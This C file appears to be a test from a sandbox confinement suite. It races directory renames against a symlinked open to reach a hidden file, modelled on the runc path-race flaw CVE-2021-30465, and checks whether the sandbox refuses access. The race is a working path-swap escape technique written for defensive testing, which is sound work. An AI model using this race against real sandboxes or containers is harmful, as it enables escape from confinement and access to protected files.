// Route: exchanges two directories, one with a hidden file, while another thread opens a file beneath one of them
// Known from: CVE-2021-30465 (runc); a check of a path before its use
// Grants: {rules: ['hide $WORK/a/held']}
// Refused: ENOENT, EACCES, EXDEV
// Twin: opens its own file beneath the other directory
// Unconfined: works
// Worlds: walls
#include "attempt.h"
#include <pthread.h>

static volatile int over, turns;

static void *exchange(void *unused) {
  char *a = at("WORK", "/link"), *b = at("WORK", "/other"), *one = at("WORK", "/way"), *two = at("WORK", "/b");
  for (; !over; turns++) {
    renameat2(AT_FDCWD, a, AT_FDCWD, b, 2);
    renameat2(AT_FDCWD, one, AT_FDCWD, at("WORK", "/a"), 0);
    renameat2(AT_FDCWD, one, AT_FDCWD, two, 0);
  }
  return unused;
}

int main(void) {
  pthread_t thread;
  int found = -1;
  char byte;
  mkdir(at("WORK", "/other"), 0755);
  close(open(at("WORK", "/other/held"), O_WRONLY | O_CREAT, 0644));
  symlink(at("WORK", "/a"), at("WORK", "/link"));
  pthread_create(&thread, NULL, exchange, NULL);
  char *path = at("WORK", "/link/held"), *direct = at("WORK", "/a/held");
  for (int i = 0; (i < 2000 || turns < 500) && found == -1; i++) {
    for (int turn = 0; turn < 2 && found == -1; turn++) {
      int descriptor = open(turn ? direct : path, O_RDONLY);
      if (descriptor != -1 && pread(descriptor, &byte, 1, 0) == 1) found = descriptor;
      else if (descriptor != -1) close(descriptor);
    }
  }
  over = 1;
  pthread_join(thread, NULL);
  /* The other thread may have had all its turns between two tries. */
  attempt(found == -1 ? open(direct, O_RDONLY) : found);
  unlink(at("WORK", "/twin"));
  twin(open(at("WORK", "/twin"), O_WRONLY | O_CREAT, 0644));
}
